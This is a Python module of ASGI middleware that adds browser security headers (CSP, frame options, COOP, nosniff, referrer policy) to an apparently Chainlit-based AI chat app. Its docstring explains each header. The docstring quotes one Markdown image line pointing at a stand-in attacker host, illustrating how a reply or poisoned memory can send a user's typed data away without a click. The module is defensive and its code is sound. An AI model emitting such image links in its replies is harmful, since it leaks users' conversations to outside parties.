"""Security headers on every HTTP response: what the browser may load, who may frame the app, and
what it tells other sites.

- `Content-Security-Policy`:
  - `img-src 'self' data: blob:` closes the remote-image channel. A reply (or a quoted memory) can
    contain Markdown like `![](https://attacker.example/?q=<what you typed>)`; a browser that
    renders it sends the data away without a click (the "SpAIware" channel, see the safety notes).
    Links still work: they need a click, and open in a new tab.
  - `style-src 'self' 'unsafe-inline'` and `font-src 'self' data:`: stylesheets and fonts from this
    app only, so a page that references a CDN again (Chainlit's index.html does; `page.py` removes
    it) is refused by the browser, not silently loaded. Inline styles are how Chainlit's UI styles
    itself, so they stay allowed.
  - `frame-ancestors 'self'` (and `X-Frame-Options: SAMEORIGIN` for older browsers): no other site
    can frame the chat or the console and trick a click (clickjacking).
  - `object-src 'none'`, `base-uri 'self'`, `form-action 'self'`: no plugins, no rebased relative
    URLs, forms post only here. Scripts are not restricted: Chainlit's page has inline scripts.
- `Cross-Origin-Opener-Policy: same-origin`: a page this app opens (a link in a reply) or that opened
  it gets no handle on its window, so it cannot post messages to the chat (the profile panel is asked
  for by a window message) or send it elsewhere. Sign-in is by password, with no pop-up to keep.
- `X-Content-Type-Options: nosniff`: a file is what its type says (an uploaded text is never run).
- `Referrer-Policy: same-origin`: a link followed out of a conversation does not tell the other
  site the conversation's URL.
"""

from __future__ import annotations

POLICY = "; ".join([
    "img-src 'self' data: blob:",
    "style-src 'self' 'unsafe-inline'",
    "font-src 'self' data:",
    "frame-ancestors 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
])
HEADERS = {
    b"content-security-policy": POLICY.encode(),
    b"x-frame-options": b"SAMEORIGIN",
    b"cross-origin-opener-policy": b"same-origin",
    b"x-content-type-options": b"nosniff",
    b"referrer-policy": b"same-origin",
}


def with_security_headers(headers: list[tuple[bytes, bytes]]) -> list[tuple[bytes, bytes]]:
    """The response's headers plus ours; a header the response already sets is left as it is."""
    present = {name.lower() for name, _ in headers}
    return [*headers, *((name, value) for name, value in HEADERS.items() if name not in present)]


class SecurityHeaders:
    """A plain ASGI middleware (it leaves websockets and streamed responses untouched)."""

    def __init__(self, app) -> None:
        self.app = app

    async def __call__(self, scope, receive, send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message) -> None:
            if message["type"] == "http.response.start":
                message = {**message, "headers": with_security_headers(list(message.get("headers", [])))}
            await send(message)

        await self.app(scope, receive, send_with_headers)
